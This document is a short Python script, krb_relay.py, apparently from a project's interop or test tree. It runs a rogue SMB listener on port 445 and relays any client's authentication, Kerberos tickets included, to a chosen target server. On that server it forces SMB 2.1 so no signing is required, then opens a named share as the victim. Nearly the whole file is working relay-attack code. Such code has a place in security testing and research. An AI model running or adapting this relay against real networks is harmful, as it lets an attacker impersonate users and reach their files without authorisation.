#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a client presents here, ticket and all, is presented to another server, and a share opened with it there.

usage: krb_relay.py SERVER SHARE"""

import os
import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "interop"))

from raw_smb import MORE_PROCESSING, NEGOTIATE, TREE_CONNECT, RawSmb, status_of, tree_connect_body  # noqa: E402
from relay_tools import Carrier, Relay, RogueSmb  # noqa: E402


class OldSmb(RawSmb):
    """SMB 2.1, where not even opening a share needs a signature."""

    def negotiate(self):
        body = struct.pack("<HHHHI16sQH", 36, 1, 1, 0, 0, os.urandom(16), 0, 0x210)
        return self.call(self.message(NEGOTIATE, body))


class ShareRelay(Relay):
    """What is got is used: on another machine, to open a share."""

    def __init__(self, server, share):
        super().__init__(445, connect=lambda: OldSmb(445, server, 8))
        self.server, self.share = server, share

    def carrier(self):
        return Using(self)


class Using(Carrier):
    def carry(self, token):
        status, back = super().carry(token)
        if status not in (0, MORE_PROCESSING):
            print(f"log-on: {status:#x}", flush=True)
        for done in self.relay.sessions if status == 0 else ():
            answer = done.smb.call(done.smb.message(TREE_CONNECT, tree_connect_body(self.relay.share)))
            print(f"share: {status_of(answer):#x}", flush=True)
        return status, back


def main():
    server, share = sys.argv[1:]
    with RogueSmb(ShareRelay(server, share), "0.0.0.0", 445):
        print("ready", flush=True)
        sys.stdin.read()


if __name__ == "__main__":
    main()
